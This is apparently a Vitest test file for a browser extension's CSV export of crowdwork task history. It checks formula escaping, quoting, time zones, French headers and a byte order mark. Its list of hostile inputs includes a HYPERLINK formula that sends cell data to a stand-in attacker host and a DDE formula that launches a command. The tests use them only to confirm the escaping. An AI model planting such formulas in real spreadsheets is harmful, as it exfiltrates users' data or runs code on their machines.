// @vitest-environment happy-dom
import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { TASK_CSV_COLUMNS, tasksCsv, type TaskCsvWords } from '../../../lib/data/tasks-csv';
import { downloadText } from '../../../lib/pages/download';
import type { TaskRow } from '../../../lib/storage/task-store';

/**
 * Adversarial checks of the history's CSV export: page text that a hostile requester controls (titles, requester
 * names) and names the worker typed (custom sites) never run as formulas, never break the table's shape; times are
 * ISO 8601 with the offset of the worker's zone; French headers survive; the downloaded file starts with a BOM.
 */

/** A strict RFC 4180 reader (records by CRLF; CR and LF only inside quotes). */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      if (field !== '' || wasQuoted) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      wasQuoted = true;
    } else if (c === ',') { row.push(field); field = ''; wasQuoted = false; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); records.push(row); row = []; field = ''; wasQuoted = false; i++; }
    else if (c === '\r' || c === '\n') throw new Error(`bare line break at ${i}`);
    else field += c;
  }
  if (quoted) throw new Error('unclosed quote');
  row.push(field);
  records.push(row);
  return records;
}

const messages = (locale: string) => JSON.parse(readFileSync(`public/_locales/${locale}/messages.json`, 'utf8')) as Record<string, { message: string }>;
const KEYS: Record<(typeof TASK_CSV_COLUMNS)[number], string> = {
  platform: 'csvPlatform', title: 'csvTitle', requester: 'csvRequester', requesterId: 'csvRequesterId', taskId: 'csvTaskId', hitId: 'csvHitId',
  accepted: 'csvAccepted', firstActive: 'csvFirstActive', lastActive: 'csvLastActive', ended: 'csvEnded', day: 'csvDay',
  activeSeconds: 'csvActiveSeconds', idleSeconds: 'csvIdleSeconds', reward: 'csvReward', rewardCurrency: 'csvRewardCurrency', bonus: 'csvBonus',
  bonusCurrency: 'csvBonusCurrency', outcome: 'csvOutcome', ratePerHour: 'csvRate', rateCurrency: 'csvRateCurrency', untimed: 'csvUntimed',
  addedByHand: 'csvAddedByHand', deleted: 'csvDeleted', corrected: 'csvCorrected',
};
/** The words the history page passes, from the extension's own French messages. */
function wordsIn(locale: string, platformName: (id: string) => string = (id) => id): TaskCsvWords {
  const m = messages(locale);
  return {
    header: Object.fromEntries(TASK_CSV_COLUMNS.map((c) => [c, m[KEYS[c]]!.message])) as TaskCsvWords['header'],
    platformName, outcome: (s) => s, yes: m.csvYes!.message,
  };
}

const at = (iso: string) => Date.parse(iso);
const row = (over: Partial<TaskRow> = {}): TaskRow => ({
  key: 'mturk:3ASG', platform: 'mturk', taskId: '3ASG', hitId: '3HIT', title: 'Survey', requesterName: 'Lab', requester: 'A1REQ', requesterId: 'A1REQ',
  reward: { minor: 125, currency: 'USD' }, status: 'submitted', day: '2026-11-01', firstSeenAt: at('2026-11-01T08:20:00Z'),
  acceptedAt: at('2026-11-01T08:20:00Z'), firstActiveAt: at('2026-11-01T08:30:00Z'), lastActiveAt: at('2026-11-01T09:30:00Z'),
  endedAt: at('2026-11-01T09:30:00Z'), activeMs: 600_000, idleMs: 0, external: false, updatedAt: at('2026-11-01T09:30:00Z'),
  ...over,
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1', '-1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0',
  'a "quoted" title', 'two\nlines', 'cr\r\nlf', 'comma, here', '', ' =not a formula (space first)',
];

describe('tasksCsv, adversarial', () => {
  it('keeps every hostile title and requester as text, in its own column, one record per task', () => {
    const rows = HOSTILE.map((text, i) => row({ key: `mturk:${i}`, taskId: `T${i}`, title: text, requesterName: text }));
    const read = readCsv(tasksCsv(rows, wordsIn('en'), 'UTC'));
    expect(read).toHaveLength(HOSTILE.length + 1);
    for (const record of read) expect(record).toHaveLength(TASK_CSV_COLUMNS.length);
    const title = TASK_CSV_COLUMNS.indexOf('title');
    const requester = TASK_CSV_COLUMNS.indexOf('requester');
    const taskId = TASK_CSV_COLUMNS.indexOf('taskId');
    read.slice(1).forEach((record, i) => {
      const text = HOSTILE[i]!;
      const expected = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
      expect(record[title]).toBe(expected);
      expect(record[requester]).toBe(expected);
      expect(record[taskId]).toBe(`T${i}`);
    });
  });

  it('guards a custom site that the worker named like a formula, and corrected fields', () => {
    const csv = tasksCsv([row({ platform: 'custom:x', corrected: ['reward', 'requester'] })], wordsIn('en', () => '=evil()'), 'UTC');
    const [, record] = readCsv(csv);
    expect(record?.[TASK_CSV_COLUMNS.indexOf('platform')]).toBe("'=evil()");
    expect(record?.[TASK_CSV_COLUMNS.indexOf('corrected')]).toBe('reward requester');
  });

  it('writes the French headers as they are, accents and no-break space included', () => {
    const [header] = readCsv(tasksCsv([], wordsIn('fr'), 'Europe/Paris'));
    const m = messages('fr');
    expect(header).toEqual(TASK_CSV_COLUMNS.map((c) => m[KEYS[c]]!.message));
    expect(header).toContain('Récompense');
  });

  it('writes instants in ISO 8601 with the zone’s offset, right on both sides of a DST change', () => {
    // 1 November 2026, Los Angeles: 01:30 happens twice, first at -07:00 (08:30Z), then at -08:00 (09:30Z).
    const [, record] = readCsv(tasksCsv([row()], wordsIn('en'), 'America/Los_Angeles'));
    const get = (c: (typeof TASK_CSV_COLUMNS)[number]) => record?.[TASK_CSV_COLUMNS.indexOf(c)];
    expect(get('accepted')).toBe('2026-11-01T01:20:00-07:00');
    expect(get('firstActive')).toBe('2026-11-01T01:30:00-07:00');
    expect(get('lastActive')).toBe('2026-11-01T01:30:00-08:00');
    expect(get('ended')).toBe('2026-11-01T01:30:00-08:00');
    for (const c of ['accepted', 'firstActive', 'lastActive', 'ended'] as const) {
      expect(get(c)).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$/);
      expect(Date.parse(get(c)!)).toBe(row()[c === 'ended' ? 'endedAt' : c === 'accepted' ? 'acceptedAt' : c === 'firstActive' ? 'firstActiveAt' : 'lastActiveAt']);
    }
  });

  it('writes amounts as numbers in major units with their currency, exactly (no float noise)', () => {
    const rows = [
      row({ reward: { minor: 29, currency: 'USD' }, bonus: { minor: 1, currency: 'USD' } }),
      row({ reward: { minor: 435, currency: 'GBP' } }),
      row({ reward: { minor: 100, currency: 'JPY' } }),
      row({ reward: null, status: 'returned' }),
    ];
    const read = readCsv(tasksCsv(rows, wordsIn('en'), 'UTC')).slice(1);
    const col = (c: (typeof TASK_CSV_COLUMNS)[number]) => read.map((r) => r[TASK_CSV_COLUMNS.indexOf(c)]);
    expect(col('reward')).toEqual(['0.29', '4.35', '100', '']);
    expect(col('rewardCurrency')).toEqual(['USD', 'GBP', 'JPY', '']);
    expect(col('bonus')).toEqual(['0.01', '', '', '']);
  });
});

describe('downloadText for a CSV', () => {
  afterEach(() => vi.restoreAllMocks());

  it('starts the file with a UTF-8 byte order mark, so that Excel reads the accents and emoji right', async () => {
    let blob: Blob | undefined;
    vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => { blob = b as Blob; return 'blob:x'; });
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    downloadText('t.csv', tasksCsv([row({ title: 'Enquête 🎉' })], wordsIn('fr'), 'Europe/Paris'), 'text/csv');
    const bytes = new Uint8Array(await blob!.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toContain('Enquête 🎉');
    expect(blob!.type).toMatch(/^text\/csv;\s*charset=utf-8$/i);
  });
});
